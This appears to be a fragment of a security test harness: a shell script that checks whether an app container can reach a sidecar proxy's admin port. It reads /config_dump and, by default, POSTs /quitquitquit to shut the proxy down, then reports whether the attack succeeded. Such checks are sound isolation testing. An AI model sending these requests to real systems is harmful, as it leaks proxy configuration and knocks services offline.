# From the app container, the sidecar's admin port: GET /config_dump, then (QUIT=1, default) POST
# /quitquitquit. Both are reported; the attack worked if config_dump answered 200.
bm_admin=${ADMIN_URL:-http://127.0.0.1:15000}
bm_http "$bm_admin/config_dump" -o /dev/null
bm_dump_exit=$BM_CURL_EXIT
bm_dump_code=$BM_HTTP_CODE
bm_curl_signal
bm_dump_signal=$BM_SIGNAL
bm_http_detail
bm_dump_detail=$BM_DETAIL
bm_quit_code=skipped
if [ "${QUIT:-1}" = 1 ]; then
  bm_http "$bm_admin/quitquitquit" -X POST -o /dev/null
  bm_quit_code=$BM_HTTP_CODE
  if [ "$BM_CURL_EXIT" -ne 0 ]; then bm_quit_code="curl-exit-$BM_CURL_EXIT"; fi
fi
if [ "$bm_dump_exit" -eq 0 ] && [ "$bm_dump_code" = 200 ]; then
  bm_finish http-ok 0 "config_dump readable; quitquitquit: $bm_quit_code" config_dump "$bm_dump_code" \
    quitquitquit "$bm_quit_code"
fi
bm_finish "$bm_dump_signal" "$bm_dump_exit" "config_dump: $bm_dump_detail" config_dump "$bm_dump_code" \
  quitquitquit "$bm_quit_code"
